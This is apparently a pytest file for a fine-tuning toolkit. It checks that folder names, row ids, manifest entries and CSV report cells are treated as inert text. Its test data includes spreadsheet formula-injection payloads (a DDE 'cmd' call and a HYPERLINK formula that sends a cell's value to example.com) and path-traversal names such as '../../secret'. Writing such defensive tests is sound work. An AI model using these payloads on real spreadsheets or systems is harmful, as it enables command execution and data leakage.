"""Names and ids that somebody else chose: they are text, never a place, never a formula."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
import yaml

from fine_tune import checkpoints
from fine_tune.board.board import make_board
from fine_tune.errors import CheckpointError
from fine_tune.evaluation.record import Record
from fine_tune.evaluation_config import check_evaluation
from fine_tune.subjects import find

from .hostile import PATHS

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|x", "-2+3+cmd|x", "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\x00=1+1",
    '=HYPERLINK("http://example.com?x="&A1,"x")', "\uff1d1+1",
]  # fmt: skip


def folders() -> list[str]:
    """Names from the list that a folder of this system can have, and worse."""
    return [name for name in PATHS if not re.search(r"[/\0]", name) and name not in ("", ".", "..") and len(name) < 256]


@pytest.mark.parametrize("name", folders())
def test_a_label_is_a_name_of_one_folder_below(tmp_path: Path, name: str) -> None:
    run = tmp_path / name
    (run / "adapter").mkdir(parents=True)
    (run / "adapter" / "adapter_model.safetensors").touch()
    (run / "config.yaml").write_text(yaml.safe_dump({"model": {}, "method": {}, "data": {}, "objective": {}}))
    (named,) = find([str(run)], check_evaluation(["ckpt=base"]))
    assert re.fullmatch(r"[A-Za-z0-9._-]{1,64}", named.label)
    assert not re.fullmatch(r"\.+", named.label)
    assert (tmp_path / named.label).resolve().parent == tmp_path.resolve()


def test_ids_of_rows_are_text_and_no_file(tmp_path: Path) -> None:
    record = Record(tmp_path / "home" / "eval", {"seed": 0}, None)
    record.start([[i] for i in range(len(PATHS))])
    for number, name in enumerate(PATHS):
        record.add(number, [{"id": name, "prompt": name}])
    record.finish({"checkpoint": "../../x", "metrics": {}, "num_items": len(PATHS)}, [{"id": name} for name in PATHS])
    assert [json.loads(line)["id"] for line in (tmp_path / "home" / "eval" / "items.jsonl").read_text().splitlines()] == PATHS
    made = sorted(file.relative_to(tmp_path).as_posix() for file in tmp_path.rglob("*") if file.is_file())
    assert made == ["home/eval/items.jsonl", "home/eval/key.json", "home/eval/metrics.json"]


ARABIC = "step-\u0661\u0662\u0663\u0664\u0665\u0666\u0667"


@pytest.mark.parametrize("name", ["step-../../x", "step-1", "step-0000001x", "STEP-0000001", ARABIC])
def test_only_a_step_is_a_checkpoints_name(tmp_path: Path, name: str) -> None:
    (tmp_path / name).mkdir(parents=True)
    assert checkpoints.valid_checkpoints(tmp_path) == ([], [])


def test_a_manifest_cannot_name_files_elsewhere(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("x")
    folder = tmp_path / "checkpoints" / "step-0000001"
    folder.mkdir(parents=True)
    files = {"../../secret": {"sha256": "0"}, checkpoints.ADAPTER_FILE: {"sha256": "0"}}
    (folder / checkpoints.MANIFEST).write_text(json.dumps({"step": 1, "files": files}))
    with pytest.raises(CheckpointError, match=r"adapter\.safetensors: missing"):
        checkpoints.verify(folder)


def test_no_cell_of_a_board_is_a_formula(tmp_path: Path) -> None:
    for number, text in enumerate(FORMULAS):
        run = tmp_path / f"{number}"
        run.mkdir()
        groups = {"model": {"name": text}, "method": {"name": text, text: text}, "data": {"name": f"{text}{number}"}}
        config = {"seed": number, **groups}
        (run / "config.yaml").write_text(yaml.safe_dump(config))
        if number % 2:
            (run / "failure.json").write_text(json.dumps({"exit_code": 3, "error": text, "reason": text}))
        else:
            (run / "summary.json").write_text(json.dumps({"final_loss": -1.0 - number, "run_name": text}))
    make_board(tmp_path, out=tmp_path)
    with (tmp_path / "board.csv").open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert [cell for cell in cells if re.match(r"[=+@\t\r\n\0]|-(?![\d.]+$)", cell)] == []
    told = [text for text in FORMULAS if any(text.strip("\t\r\n \x00") in cell for cell in cells)]
    assert told == FORMULAS
    # A number may be below zero: it is none.
    assert "-1.0" in cells
